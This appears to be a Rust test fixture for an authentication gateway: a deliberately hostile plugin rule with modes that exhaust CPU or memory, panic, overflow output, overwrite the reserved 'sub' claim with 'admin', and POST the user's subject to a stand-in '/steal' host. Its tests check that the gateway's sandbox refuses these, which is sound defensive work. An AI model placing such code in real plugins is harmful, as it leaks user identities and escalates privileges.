//! A deliberately hostile rule for the gateway's tests. It misbehaves in the
//! way `mode` says when the sign-in matches its config (`victim`: a subject,
//! or `*`; `path`: a prefix of the return URL; both optional); every other
//! sign-in passes untouched.
//!
//! Modes: `loop` (burns CPU forever), `alloc` (allocates without bound),
//! `trap` (panics), `panic` (logs a line, then panics with a message naming
//! the person: the SDK reports it to the gateway before the trap), `huge` (returns far more than the output cap), `forbidden-host`
//! (calls a host outside its allow list and ignores the error),
//! `error` (returns err), `bad-claim` (sets a reserved claim); and one
//! well-behaved mode for the gateway's re-authentication flow: `reauth`
//! (requires a fresh provider login, then allows).

use edgeauth_plugin::host::{self, HttpRequest};
use edgeauth_plugin::{Commands, Level, Login};
use serde::Deserialize;

#[derive(Deserialize)]
struct Config {
    #[serde(default)]
    victim: Option<String>,
    #[serde(default)]
    path: Option<String>,
    mode: String,
    #[serde(default)]
    url: Option<String>,
}

fn on_login(login: &Login) -> Result<Commands, String> {
    let config: Config = login.config()?;
    let mut out = Commands::new();
    let victim = config
        .victim
        .as_deref()
        .is_none_or(|v| v == "*" || v == login.user.sub);
    let path = config
        .path
        .as_deref()
        .is_none_or(|p| login.transaction.return_url.starts_with(p));
    if !(victim && path) {
        return Ok(out);
    }
    match config.mode.as_str() {
        "loop" => {
            let mut x: u64 = 1;
            loop {
                x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                if x == 0 {
                    break;
                }
            }
            out.log(Level::Info, format!("{x}"));
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("hostile rule panics on purpose"),
        "panic" => {
            host::log(Level::Info, "hostile rule: about to panic");
            panic!("hostile rule panics for {} on purpose", login.user.sub);
        }
        "huge" => {
            // About 430 KB of commands, past the default 64 KiB output cap.
            for i in 0..2_000 {
                out.log(Level::Info, format!("{i:>200}"));
            }
        }
        "forbidden-host" => {
            let url = config
                .url
                .unwrap_or_else(|| "http://127.0.0.1:9/steal".into());
            let _ignored = host::fetch(&HttpRequest {
                method: "POST".into(),
                url,
                headers: vec![],
                body: Some(login.user.sub.clone().into_bytes()),
                timeout_ms: 500,
            });
        }
        "error" => return Err("hostile rule returns an error on purpose".into()),
        "reauth" => {
            if !login.transaction.reauthenticated {
                out.require_reauth(true, Some(0));
            }
        }
        "bad-claim" => {
            out.claim("sub", "admin");
        }
        other => return Err(format!("unknown mode {other}")),
    }
    Ok(out)
}

edgeauth_plugin::rule!(on_login);

#[cfg(test)]
mod tests {
    use super::*;
    use edgeauth_plugin::json;
    use edgeauth_plugin::testing::{Failure, Grant, run};

    #[test]
    fn leaves_other_users_alone() {
        let l = Login::from_json(
            json!({"config": {"victim": "bob", "mode": "loop"}, "user": {"sub": "alice"}}),
        );
        assert!(on_login(&l).unwrap().0.is_empty());
        let l = Login::from_json(
            json!({"config": {"path": "/h/loop", "mode": "loop"}, "transaction": {"return_url": "/ok"}}),
        );
        assert!(on_login(&l).unwrap().0.is_empty());
    }

    #[test]
    fn panic_mode_logs_then_panics_with_the_subject() {
        edgeauth_plugin::install_panic_hook();
        let l = Login::from_json(json!({"config": {"mode": "panic"}, "user": {"sub": "bob"}}));
        let caught = std::panic::catch_unwind(|| on_login(&l));
        assert!(caught.is_err());
        let logs: Vec<String> = edgeauth_plugin::testing::logs()
            .into_iter()
            .map(|(_, m)| m)
            .collect();
        assert_eq!(logs[0], "hostile rule: about to panic");
        assert!(logs[1].starts_with("rule panicked at "), "{logs:?}");
        assert!(
            logs[1].ends_with(": hostile rule panics for bob on purpose"),
            "{logs:?}"
        );
    }

    #[test]
    fn victim_modes_that_return() {
        let l = |mode: &str| {
            Login::from_json(
                json!({"config": {"path": "/h/", "mode": mode}, "user": {"sub": "bob"}, "transaction": {"return_url": "/h/x"}}),
            )
        };
        assert!(on_login(&l("error")).is_err());
        assert_eq!(on_login(&l("huge")).unwrap().0.len(), 2_000);
        assert_eq!(on_login(&l("bad-claim")).unwrap().0.len(), 1);
        // The SDK's test helper refuses them as the gateway does.
        let grant = Grant::new();
        for mode in ["huge", "bad-claim"] {
            let e = run(on_login, &l(mode), &grant).unwrap_err();
            assert!(matches!(e, Failure::Refused(_)), "{mode}: {e}");
        }
        assert!(matches!(
            run(on_login, &l("error"), &grant),
            Err(Failure::Rule(_))
        ));
    }
}
